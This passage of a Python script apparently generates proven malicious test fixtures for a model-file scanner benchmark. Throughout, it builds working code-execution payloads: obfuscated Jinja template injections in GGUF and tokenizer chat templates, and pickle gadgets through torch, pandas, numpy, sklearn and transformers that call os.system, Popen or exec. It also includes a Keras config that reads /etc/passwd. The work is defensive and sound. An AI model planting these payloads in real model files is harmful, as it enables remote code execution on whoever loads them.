    "{% set d = namespace(i='_x_init_x_'|replace('x', ''), g='_x_globals_x_'|replace('x', ''),"
    " b='_x_builtins_x_'|replace('x', ''), m='_x_import_x_'|replace('x', '')) %}"
    "{{ (joiner|attr(d.i)|attr(d.g))[d.b][d.m]('os').system(" + repr(SH) + ") }}"
)
J_SUBSCRIPT = (
    "{{ lipsum['__glo' 'bals__']['o' 's']['pop' 'en'](" + repr(SH) + ").read() }}"
    "{% for m in messages %}{{ m['content'] }}{% endfor %}"
)
J_FORMAT = (
    "{% set u = '%c%c'|format(95, 95) %}"
    "{{ cycler[u ~ 'init' ~ u][u ~ 'globals' ~ u]['os']['system'](" + repr(SH) + ") }}"
)


@fixture(
    "j01_gguf_chat_template_attr_tilde.gguf",
    "gguf",
    "GGUF tokenizer.chat_template reaching __subclasses__ through |attr and '~'-split names",
    "CVE-2024-34359 (llama-cpp-python GHSA-56xg-wfcc-g829), CVE-2026-5760 (SGLang rerank), obfuscated; issue 11",
    "__subclasses__|__builtins__|__import__",
    LOAD_GGUF,
)
def _j01(p: Path) -> None:
    _gguf(p, J_ATTR)


def _gguf(p: Path, template: str) -> None:
    import gguf
    import numpy as np

    w = gguf.GGUFWriter(str(p), "llama")
    w.add_chat_template(template)
    w.add_tensor("tok_embd.weight", np.zeros((2, 2), dtype=np.float32))
    w.write_header_to_file()
    w.write_kv_data_to_file()
    w.write_tensors_to_file()
    w.close()


@fixture(
    "j04_gguf_chat_template_join.gguf",
    "gguf",
    "GGUF tokenizer.chat_template whose dunder names are built with |join from lists, kept in a namespace()",
    "CVE-2026-5760 (SGLang rerank renders GGUF templates unsandboxed), obfuscated",
    "__subclasses__|__builtins__|__import__",
    LOAD_GGUF,
)
def _j04(p: Path) -> None:
    _gguf(p, J_JOIN)


@fixture(
    "j09_gguf_template_replace_built_names.gguf",
    "gguf",
    "GGUF chat template with no '__' in its source: dunder names built by |replace, reached with |attr from joiner",
    "CVE-2024-34359 / CVE-2026-5760 class, obfuscated",
    "__globals__|__builtins__|__import__|__init__|computed",  # a fail-closed "computed name" finding is a reason
    LOAD_GGUF,
)
def _j09(p: Path) -> None:
    _gguf(p, J_REPLACE)


@fixture(
    "j02_tokenizer_config/tokenizer_config.json",
    "tokenizer-config",
    "tokenizer_config.json chat_template: lipsum['__glo' 'bals__'] (implicit string concatenation in a subscript)",
    "CVE-2024-34359 class; Jinja implicit concatenation",
    "__globals__",
    LOAD_TOKCONFIG,
)
def _j02() -> bytes:
    import json

    return json.dumps({"tokenizer_class": "PreTrainedTokenizerFast", "chat_template": J_SUBSCRIPT}).encode()


@fixture(
    "j03_chat_template/chat_template.jinja",
    "chat-template",
    "chat_template.jinja: underscores built with '%c%c'|format(95, 95) and ~, reaching cycler.__init__.__globals__",
    "CVE-2024-34359 class; issue 11 (Jinja filters)",
    "__globals__",
    LOAD_TEXT,
)
def _j03() -> bytes:
    return J_FORMAT.encode()


# --- PyTorch / pandas gadgets (built and proven with benchmarks/work/fixturegen) -------------------
def _torch_save(obj: object, p: Path, protocol: int = 2) -> None:
    import torch

    buf = io.BytesIO()  # saved to memory: the archive's folder is "archive", not the file's (telling) name
    torch.save({"weight": torch.zeros(2), "extra": obj}, buf, pickle_protocol=protocol)
    p.write_bytes(buf.getvalue())


class Rebuilt:
    """Pickles as a call to ``cls()``: how an attack ships the instance an unbound method needs."""

    def __init__(self, cls: type) -> None:
        self.cls = cls

    def __reduce__(self) -> tuple[object, tuple[object, ...]]:
        return self.cls, ()


@fixture(
    "t01_torch_collect_env_run.pt",
    "pytorch-zip",
    "torch.save of a state dict holding torch.utils.collect_env.run(cmd): Popen(shell=True)",
    "picklescan GHSA-f745-w6jp-hpxx, GHSA-jhph-76pp-mggw; modelscan#338; issue 11",
    "collect_env",
    LOAD_TORCH,
    "fixturegen",
)
def _t01(p: Path) -> None:
    from torch.utils import collect_env

    _torch_save(Reduce(collect_env.run, SH), p)


@fixture(
    "t02_torch_fx_shapeenv_eval.pt",
    "pytorch-zip",
    "ShapeEnv.evaluate_guards_expression(ShapeEnv(), code, []) eval()s code (protocol 4, dotted qualname)",
    "picklescan GHSA-f4x7-rfwp-v3xw; issue 11 (torch.fx ShapeEnv)",
    "evaluate_guards_expression",
    LOAD_TORCH,
    "fixturegen",
)
def _t02(p: Path) -> None:
    from torch.fx.experimental.symbolic_shapes import ShapeEnv

    _torch_save(Reduce(ShapeEnv.evaluate_guards_expression, Rebuilt(ShapeEnv), PY, []), p, protocol=4)


@fixture(
    "t03_torch_datapipes_basichandlers.pt",
    "pytorch-zip",
    "torch datapipes decoder basichandlers('pyd', bytes) pickle.loads a nested pickle (posix.system)",
    "picklescan GHSA-h3qp-7fh3-f8h4; issue 11 (datapipes)",
    "basichandlers|posix.system",
    LOAD_TORCH,
    "fixturegen",
)
def _t03(p: Path) -> None:
    from torch.utils.data.datapipes.utils.decoder import basichandlers

    _torch_save(Reduce(basichandlers, "pyd", dumps(Reduce(os.system, SH))), p)


@fixture(
    "t04_torch_jit_execwrapper.pt",
    "pytorch-zip",
    "torch.jit.unsupported_tensor_ops.execWrapper(source, {}, {}) is exec()",
    "picklescan GHSA-vr7h-p6mm-wpmh",
    "execWrapper",
    LOAD_TORCH,
    "fixturegen",
)
def _t04(p: Path) -> None:
    from torch.jit.unsupported_tensor_ops import execWrapper

    _torch_save(Reduce(execWrapper, PY, {}, {}), p)


@fixture(
    "t05_torch_config_module_load_config.pkl",
    "pickle",
    "STACK_GLOBAL('torch._dynamo', 'config.load_config'): a ConfigModule's bound method pickle.loads a nested pickle",
    "picklescan GHSA-vv6j-3g6g-2pvj",
    "load_config|posix.system",
    LOAD_PICKLE,
    "fixturegen",
)
def _t05() -> bytes:
    return P4 + call(sg("torch._dynamo", "config.load_config"), binbytes(dumps(Reduce(os.system, SH)))) + STOP


@fixture(
    "t06_torch_zip_broken_after_payload.pt",
    "pytorch-zip",
    "real torch.save zip whose data.pkl is a posix.system call followed by a broken stream (nullifAI)",
    "ReversingLabs nullifAI (2025-02): torch.load runs the payload before the stream breaks",
    "posix.system",
    LOAD_TORCH,
    "fixturegen",
)
def _t06(p: Path) -> None:
    import torch

    buf = io.BytesIO()
    torch.save({"weight": torch.zeros(2)}, buf)
    out = io.BytesIO()
    with zipfile.ZipFile(io.BytesIO(buf.getvalue())) as src, zipfile.ZipFile(out, "w") as dst:
        for info in src.infolist():
            data = src.read(info)
            if info.filename.endswith("/data.pkl"):
                data = P2 + call(gl("posix", "system"), u(SH)) + pickle.POP + b"\xff broken"
            dst.writestr(info, data)
    p.write_bytes(out.getvalue())


@fixture(
    "c07_pandas_zstd.pkl.zst",
    "pickle-zstd",
    "pandas.to_pickle(..., compression inferred 'zstd'); pandas.read_pickle decompresses it transparently",
    "issue 11 (compressed pickles: zstd)",
    "posix.system",
    "import pandas, sys\npandas.read_pickle(sys.argv[1])",
    "fixturegen",
)
def _c07(p: Path) -> None:
    import pandas as pd

    pd.to_pickle({"frame": pd.DataFrame({"a": [1, 2]}), "hook": Reduce(os.system, SH)}, p)


@fixture(
    "c08_pandas_gzip.pkl.gz",
    "pickle-gzip",
    "pandas.to_pickle to .pkl.gz (a plain gzip stream, no joblib framing); read_pickle opens it",
    "issue 11 (compressed pickles: gzip)",
    "posix.system",
    "import pandas, sys\npandas.read_pickle(sys.argv[1])",
    "fixturegen",
)
def _c08(p: Path) -> None:
    import pandas as pd

    gz = {"method": "gzip", "mtime": 0}  # no time in the header: rebuilding gives the same bytes
    pd.to_pickle({"frame": pd.DataFrame({"a": [1, 2]}), "hook": Reduce(os.system, SH)}, p, compression=gz)


@fixture(
    "c10_pandas_tar.pkl.tar",
    "pickle-tar",
    "pandas.to_pickle to .pkl.tar (compression inferred 'tar'): the pickle is a tar member; read_pickle opens it",
    "pandas compression='tar' (pandas >= 1.5); issue 11 (tar)",
    "posix.system",
    "import pandas, sys\npandas.read_pickle(sys.argv[1])",
    "fixturegen",
)
def _c10(p: Path) -> None:
    import tarfile

    import pandas as pd

    inner = io.BytesIO()
    pd.to_pickle({"frame": pd.DataFrame({"a": [1, 2]}), "hook": Reduce(os.system, SH)}, inner, compression=None)
    buf = io.BytesIO()  # written with tarfile (fixed mtime) the way pandas does, so rebuilding gives the same bytes
    with tarfile.open(fileobj=buf, mode="w") as t:
        info = tarfile.TarInfo("frame.pkl")
        info.size, info.mtime = len(inner.getvalue()), 1577836800
        t.addfile(info, io.BytesIO(inner.getvalue()))
    p.write_bytes(buf.getvalue())


@fixture(
    "c11_pandas_tar_gz.pkl.tar.gz",
    "pickle-tar",
    "pandas.to_pickle to .pkl.tar.gz (compression 'tar' with gzip): a pickle member of a gzipped tar",
    "pandas compression={'method': 'tar', 'mode': 'w:gz'} (pandas >= 1.5); issue 11 (tar)",
    "posix.system",
    "import pandas, sys\npandas.read_pickle(sys.argv[1])",
    "fixturegen",
)
def _c11(p: Path) -> None:
    import gzip
    import tarfile

    import pandas as pd

    inner = io.BytesIO()
    pd.to_pickle({"frame": pd.DataFrame({"a": [1, 2]}), "hook": Reduce(os.system, SH)}, inner, compression=None)
    buf = io.BytesIO()
    with tarfile.open(fileobj=buf, mode="w") as t:
        info = tarfile.TarInfo("frame.pkl")
        info.size, info.mtime = len(inner.getvalue()), 1577836800
        t.addfile(info, io.BytesIO(inner.getvalue()))
    p.write_bytes(gzip.compress(buf.getvalue(), mtime=0))


@fixture(
    "c12_proto0_xz.pkl.xz",
    "pickle-xz",
    "a protocol-0 pickle (no PROTO header) compressed with xz: read_pickle inflates and loads it",
    "pickle protocol 0 (Lib/pickle.py); pandas.read_pickle infers xz from the name",
    "os.system",
    "import pandas, sys\npandas.read_pickle(sys.argv[1])",
    "fixturegen",
)
def _c12() -> bytes:
    import lzma

    return lzma.compress(b"cos\nsystem\n(S'" + SH.encode() + b"'\ntR.")


@fixture(
    "c13_proto1_bz2.bin",
    "pickle-bz2",
    "a protocol-1 pickle compressed with bz2 under a weights name: pickle.load(bz2.open(...))",
    "pickle protocol 1 (Lib/pickle.py); issue 11 (compressed pickles)",
    "os.system",
    "import bz2, pickle, sys\npickle.load(bz2.open(sys.argv[1]))",
)
def _c13() -> bytes:
    import bz2

    return bz2.compress(b"cos\nsystem\nq\x00(X" + struct.pack("<I", len(SH)) + SH.encode() + b"tR.")


@fixture(
    "o15_data_opcode_first.bin",
    "pickle",
    "a pickle opening with BINFLOAT (no PROTO, not a protocol-0 first byte) and then a GLOBAL + REDUCE",
    "Modules/_pickle.c: any opcode may come first; scanners that sniff the first byte skip the file",
    "os.system",
)
def _o15() -> bytes:
    return b"G" + struct.pack(">d", 1.0) + b"cos\nsystem\n(S'" + SH.encode() + b"'\ntR."


# --- Keras: configs that reach gadgets inside keras itself (allowed modules, safe_mode on) ----------
@fixture(
    "k01_keras_lambda_get_file.keras",
    "keras-v3",
    "a Lambda whose function is keras.utils.get_file, called at load with inbound_nodes kwargs: reads file:///etc/passwd"
    " and writes it where the config says (arbitrary file read/write or download, safe_mode=True)",
    "CVE-2025-8747 (JFrog; keras < 3.11); io-no/CVE-Reports#5",
    "get_file",
    LOAD_KERAS,
    "attackgen",
)
def _k01(p: Path) -> None:
    import json

    os.environ["KERAS_BACKEND"] = "torch"
    import keras

    inp = keras.Input(shape=(2,))
    keras.Model(inp, keras.layers.Lambda(keras.ops.relu, name="fn")(inp)).save(p)
    with zipfile.ZipFile(p) as src:
        infos = [(i, src.read(i)) for i in src.infolist()]
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as dst:
        for info, data in infos:
            if info.filename == "config.json":
                cfg = json.loads(data)
                lam = cfg["config"]["layers"][1]
                fn = {"module": "keras.utils", "class_name": "function", "config": "get_file"}
                lam["config"]["function"] = {**fn, "registered_name": "function"}
                lam["config"]["arguments"] = {"origin": "file:///etc/passwd", "cache_dir": ".", "cache_subdir": "."}
                lam["inbound_nodes"] = [{"args": [], "kwargs": {"inputs": MARK}}]
                data = json.dumps(cfg).encode()
            if info.filename == "metadata.json":
                data = json.dumps({**json.loads(data), "date_saved": "2020-01-01@00:00:00"}).encode()
            info.date_time = (2020, 1, 1, 0, 0, 0)
            dst.writestr(info, data)
    p.write_bytes(out.getvalue())


# --- framework functions and classes that act when called or rebuilt (what an allowlist of frameworks may miss) --
PY_HOME = f"import os; open(os.path.join(os.environ['HOME'], {MARK!r}), 'w').close()"  # for a child with another cwd


@fixture(
    "b01_numpy_memmap_newobj.pkl",
    "pickle",
    "NEWOBJ numpy.memmap(path, uint8, 'w+', 0, (1,)): rebuilding a numpy class creates (or truncates) a file",
    "numpy.memmap.__new__ opens the file (issue 11: 'a class reconstructed ... unless it is a known gadget')",
    "memmap",
)
def _b01() -> bytes:
    args = pickle.MARK + u(MARK) + sg("numpy", "uint8") + u("w+") + pickle.BININT1 + b"\0"
    args += pickle.BININT1 + b"\1" + T1 + pickle.TUPLE
    return P4 + sg("numpy", "memmap") + args + pickle.NEWOBJ + STOP


@fixture(
    "b02_numpy_savetxt.pkl",
    "pickle",
    "numpy.savetxt(path, [1.0]) writes a file",
    "framework reading (numpy file writers)",
    "savetxt",
)
def _b02() -> bytes:
    import numpy as np

    return dumps(Reduce(np.savetxt, MARK, [1.0]))


@fixture(
    "b03_reconstructor_popen_init.pkl",
    "pickle",
    "_reconstructor(Popen, Popen, argv) runs Popen.__init__: an allowed rebuilder spawns",
    "Lib/copyreg.py _reconstructor (base.__init__(obj, state) when base is not object)",
    "Popen",
)
def _b03() -> bytes:
    argv = pickle.EMPTY_LIST + pickle.MARK + u("touch") + u(MARK) + pickle.APPENDS
    popen = sg("subprocess", "Popen") + pickle.MEMOIZE
    return P4 + call(sg("copyreg", "_reconstructor"), popen, pickle.BINGET + b"\0", argv) + STOP


@fixture(
    "b04_reconstructor_mailbox_init.pkl",
    "pickle",
    "copyreg._reconstructor(argparse.Namespace, mailbox.Maildir, path): Maildir.__init__ creates a folder tree",
    "Lib/copyreg.py _reconstructor; Lib/mailbox.py Maildir(create=True)",
    "mailbox",
)
def _b04() -> bytes:
    maildir = sg("mailbox", "Maildir")
    return P4 + call(sg("copyreg", "_reconstructor"), sg("argparse", "Namespace"), maildir, u(MARK)) + STOP


@fixture(
    "b05_joblib_dump.pkl",
    "pickle",
    "joblib.dump({}, path) called from a pickle: writes a file",
    "framework reading (joblib is allowed for its array wrappers, not its writers)",
    "joblib.dump|joblib.numpy_pickle.dump",
)
def _b05() -> bytes:
    import joblib

    return dumps(Reduce(joblib.dump, {}, MARK))


@fixture(
    "b06_sklearn_dump_svmlight_file.pkl",
    "pickle",
    "sklearn.datasets.dump_svmlight_file(X, y, path) called from a pickle: writes a file",
    "framework reading (scikit-learn functions are not estimators)",
    "dump_svmlight_file",
    LOAD_PICKLE,
    "fixturegen",
)
def _b06() -> bytes:
    from sklearn.datasets import dump_svmlight_file

    return dumps(Reduce(dump_svmlight_file, [[1.0]], [1], MARK))


@fixture(
    "b07_sklearn_run_python_script.pkl",
    "pickle",
    "sklearn.utils._testing.assert_run_python_script_without_output(source) runs source in a child Python",
    "framework reading (test helpers shipped in the wheel, like test.support)",
    "assert_run_python_script",
    LOAD_PICKLE,
    "fixturegen",
)
def _b07() -> bytes:
    from sklearn.utils._testing import assert_run_python_script_without_output

    return dumps(Reduce(assert_run_python_script_without_output, PY_HOME, ".*"))


@fixture(
    "b08_torch_from_file.pt",
    "pytorch-zip",
    "torch.from_file(path, shared=True, size=1) in a state dict: creates (or maps and writes) a file",
    "framework reading (torch file-backed storages)",
    "from_file",
    LOAD_TORCH,
    "fixturegen",
)
def _b08(p: Path) -> None:
    import torch

    _torch_save(Reduce(torch.from_file, MARK, True, 1), p)


@fixture(
    "b09_torch_untypedstorage_from_file.pkl",
    "pickle",
    "STACK_GLOBAL('torch', 'UntypedStorage.from_file'): a classmethod of an allowed storage class creates a file",
    "framework reading (torch.UntypedStorage.from_file)",
    "from_file",
    LOAD_PICKLE,
    "fixturegen",
)
def _b09() -> bytes:
    size = pickle.BININT1 + b"\1"
    return P4 + call(sg("torch", "UntypedStorage.from_file"), u(MARK), pickle.NEWTRUE, size) + STOP


@fixture(
    "b10_pandas_to_csv.pkl",
    "pickle",
    "pandas.DataFrame.to_csv(DataFrame(), path): a method of an allowed data class writes a file",
    "framework reading (pandas writers)",
    "to_csv",
    LOAD_PICKLE,
    "fixturegen",
)
def _b10() -> bytes:
    return P4 + call(sg("pandas", "DataFrame.to_csv"), call(sg("pandas", "DataFrame")), u(MARK)) + STOP


@fixture(
    "b11_transformers_run_command.bin",
    "pickle",
    "transformers.testing_utils.run_command(argv) runs a process (subprocess.check_output)",
    "framework reading (transformers test helpers shipped in the wheel)",
    "run_command|testing_utils",
    LOAD_TORCH,
    "fixturegen",
)
def _b11(p: Path) -> None:
    from transformers.testing_utils import run_command

    _torch_save(Reduce(run_command, ["touch", MARK]), p)


@fixture(
    "t07_torch_rebuild_from_type_calls.pt",
    "pytorch-zip",
    "the allowed torch._tensor._rebuild_from_type_v2(func, type, args, state) calls func(*args): here posix.system",
    "fickling ml.py (notes _rebuild_from_type_v2 calls its first argument)",
    "posix.system",
    LOAD_TORCH,
    "fixturegen",
)
def _t07(p: Path) -> None:
    import torch

    _torch_save(Reduce(torch._tensor._rebuild_from_type_v2, os.system, torch.Tensor, (SH,), {}), p)


@fixture(
    "j05_gguf_named_template.gguf",
    "gguf",
    "benign tokenizer.chat_template, payload in the named template tokenizer.chat_template.tool_use",
    "GGUF named chat templates (tokenizer.chat_template.<name>, read by llama.cpp); CVE-2024-34359 class",
    "__subclasses__|__builtins__|__import__|__globals__",
    LOAD_GGUF.replace("'tokenizer.chat_template'", "'tokenizer.chat_template.tool_use'"),
)
def _j05(p: Path) -> None:
    import gguf
    import numpy as np

    w = gguf.GGUFWriter(str(p), "llama")
    w.add_chat_template("{% for m in messages %}{{ m['content'] }}{% endfor %}")
    w.add_string("tokenizer.chat_template.tool_use", J_SUBSCRIPT)
    w.add_tensor("tok_embd.weight", np.zeros((2, 2), dtype=np.float32))
    w.write_header_to_file()
    w.write_kv_data_to_file()
    w.write_tensors_to_file()
    w.close()


@fixture(
    "j06_tokenizer_config_template_list/tokenizer_config.json",
    "tokenizer-config",
    "tokenizer_config.json chat_template as a list of named templates: the payload is the 'tool_use' one",
    "transformers named chat templates (list form); CVE-2024-34359 class",
    "__globals__",
    "import json, sys\nts = json.load(open(sys.argv[1]))['chat_template']\n"
    "t = [x['template'] for x in ts if x['name'] == 'tool_use'][0]\n" + RENDER,
)
def _j06() -> bytes:
    import json

    templates = [{"name": "default", "template": "{{ messages }}"}, {"name": "tool_use", "template": J_SUBSCRIPT}]
    return json.dumps({"tokenizer_class": "PreTrainedTokenizerFast", "chat_template": templates}).encode()


@fixture(
    "j07_processor/chat_template.json",
    "chat-template",
    "chat_template.json (a processor's template file) holding the payload",
    "transformers processors save chat_template.json; CVE-2024-34359 class",
    "__globals__",
    LOAD_TOKCONFIG,
)
def _j07() -> bytes:
    import json

    return json.dumps({"chat_template": J_SUBSCRIPT}).encode()


@fixture(
    "j10_processor_config/processor_config.json",
    "chat-template",
    "processor_config.json with a chat_template key (where processors kept it before chat_template.json)",
    "transformers ProcessorMixin (chat_template read from processor_config.json); CVE-2024-34359 class",
    "__globals__",
    LOAD_TOKCONFIG,
)
def _j10() -> bytes:
    import json

    return json.dumps({"processor_class": "LlavaProcessor", "chat_template": J_SUBSCRIPT}).encode()


@fixture(
    "j08_additional/additional_chat_templates/tool_use.jinja",
    "chat-template",
    "additional_chat_templates/tool_use.jinja (extra named templates saved beside the tokenizer)",
    "transformers additional_chat_templates/ folder; CVE-2024-34359 class",
    "__globals__",
    LOAD_TEXT,
)
def _j08() -> bytes:
    return J_SUBSCRIPT.encode()


@fixture(
    "b12_torch_model_zoo_load_url.pkl",
    "pickle",
    "torch.utils.model_zoo.load_url(file:///etc/passwd, model_dir='.', file_name=...): torch.hub's downloader under"
    " another name fetches a URL to a chosen file (then torch.loads it)",
    "framework reading (torch.utils.model_zoo re-exports torch.hub.load_state_dict_from_url)",
    "load_url|model_zoo",
    LOAD_PICKLE,
    "fixturegen",
)
def _b12() -> bytes:
    args = (u("file:///etc/passwd"), u("."), pickle.NONE, pickle.NEWFALSE, pickle.NEWFALSE, u(MARK))
    return P4 + call(sg("torch.utils.model_zoo", "load_url"), *args) + STOP


@fixture(
    "b13_codecs_open_write.pkl",
    "pickle",
    "codecs.open(path, 'w') creates (or truncates) a file",
    "stdlib reading (codecs.open is builtins.open with an encoding)",
    "codecs",
)
def _b13() -> bytes:
    return P4 + call(sg("codecs", "open"), u(MARK), u("w")) + STOP


# --- proof ---------------------------------------------------------------------------------------
def prove(fx: Fixture, python: Path) -> tuple[bool, str]:
    """Build fx in a fresh directory and load it there in a subprocess; proven when the marker appears."""
    with tempfile.TemporaryDirectory(prefix="aitrail-attack-") as d:
        target = Path(d) / "f" / fx.file
        target.parent.mkdir(parents=True)
        fx.build(target)
        work = Path(d) / "cwd"
        work.mkdir()
        env = {"PATH": os.environ.get("PATH", "/usr/bin:/bin"), "HOME": str(work), "PYTHONWARNINGS": "ignore"}
        try:
            r = subprocess.run(
                [str(python), "-c", fx.loader, str(target)], cwd=work, env=env, capture_output=True,
                timeout=120, stdin=subprocess.DEVNULL,
            )  # fmt: skip
            tail = r.stderr.decode(errors="replace").strip().splitlines()[-1:] or [""]
        except subprocess.TimeoutExpired:
            tail = ["timeout"]
        ok = (work / MARK).exists()
        if ok:
            dest = OUT / fx.file
            dest.parent.mkdir(parents=True, exist_ok=True)
            dest.write_bytes(target.read_bytes())
        return ok, tail[0]


def main() -> None:
    ap = argparse.ArgumentParser()
    ap.add_argument("--only", help="build only fixtures whose file name starts with this")
    ap.add_argument("--needs", choices=["venv", *PYTHONS], help=argparse.SUPPRESS)  # set when delegating
    args = ap.parse_args()
    needs = args.needs or "venv"
    OUT.mkdir(parents=True, exist_ok=True)
    manifest = OUT / "manifest.csv"
    rows: dict[str, dict[str, str]] = {}
    if manifest.exists():
        rows = {r["file"]: r for r in csv.DictReader(manifest.open(encoding="utf-8"))}
    chosen = [fx for fx in FIXTURES if not args.only or fx.file.startswith(args.only)]
    failed = []
    for fx in chosen:
        if fx.needs != needs:
            continue
        ok, why = prove(fx, Path(sys.executable))
        print(f"{'proven ' if ok else 'FAILED '} {fx.file}" + ("" if ok else f"  ({why})"), file=sys.stderr)
        if ok:
            rows[fx.file] = {
                "file": fx.file, "kind": fx.kind, "malicious": "1", "technique": fx.technique,
                "source": fx.source, "why": fx.why, "proven": "yes",
            }  # fmt: skip
        else:
            failed.append(fx.file)
            rows.pop(fx.file, None)
            (OUT / fx.file).unlink(missing_ok=True)
    with manifest.open("w", encoding="utf-8", newline="") as f:
        w = csv.DictWriter(f, COLUMNS, lineterminator="\n")
        w.writeheader()
        for k in sorted(rows):
            w.writerow(rows[k])
    if failed:
        print(f"{len(failed)} not proven (not kept): {', '.join(failed)}", file=sys.stderr)
    if args.needs is not None:
        return
    for name, python in PYTHONS.items():
        if not any(fx.needs == name for fx in chosen):
            continue
        if not python.exists():
            print(f"skipped the fixtures needing {python}: missing", file=sys.stderr)
            continue
        extra = ["--only", args.only] if args.only else []
        subprocess.run([str(python), __file__, "--needs", name, *extra], check=True)


if __name__ == "__main__":
    main()
